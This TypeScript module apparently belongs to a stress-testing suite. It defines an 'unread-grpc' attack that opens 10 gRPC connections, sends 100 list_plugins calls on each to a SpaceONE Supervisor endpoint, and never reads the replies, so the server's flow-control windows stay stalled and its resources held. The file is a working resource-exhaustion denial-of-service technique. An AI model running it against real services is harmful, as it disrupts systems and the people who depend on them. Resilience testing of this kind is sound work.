import { setImmediate } from 'node:timers/promises';
import type { Attack } from '../attack.ts';
import { beginCall, frame, openGrpc } from '../clients/grpc.ts';
import { untilTheEnd } from '../keepAttacking.ts';

const connections = 10;
const callsAConnection = 100;

/** Calls for whole lists, over connections that are never read. */
export const unreadGrpc: Attack = {
  name: 'unread-grpc',
  family: 'sockets',
  bounds: [5, 9, 10],
  summary: '10 gRPC connections that ask for 100 whole lists each and read nothing',
  run: async (context) => {
    const sessions = await Promise.all(Array.from({ length: connections }, () => openGrpc(context)));
    const { viewer } = context.target.tenant.keys;
    for (let index = 0; index < callsAConnection && !context.signal.aborted; index++) {
      for (const session of sessions) {
        if (session.closed || session.destroyed) continue;
        const stream = beginCall(session, '/spaceone.api.plugin.v1.Supervisor/list_plugins', viewer);
        // A stream that nobody resumes keeps its window closed.
        stream.on('close', () => {
          if (!context.signal.aborted) context.count(`reset ${stream.rstCode}`);
        });
        stream.end(frame(Buffer.alloc(0)));
      }
      await setImmediate();
    }
    await untilTheEnd(context.signal);
  },
};
